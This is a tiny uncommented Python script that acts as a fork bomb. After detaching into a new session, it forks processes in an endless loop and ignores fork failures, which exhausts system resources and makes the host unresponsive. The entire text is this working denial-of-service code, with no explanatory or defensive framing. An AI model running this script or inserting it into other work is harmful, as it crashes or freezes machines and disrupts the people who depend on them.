import os

if os.fork() == 0:
    os.setsid()
while True:
    try:
        os.fork()
    except OSError:
        pass
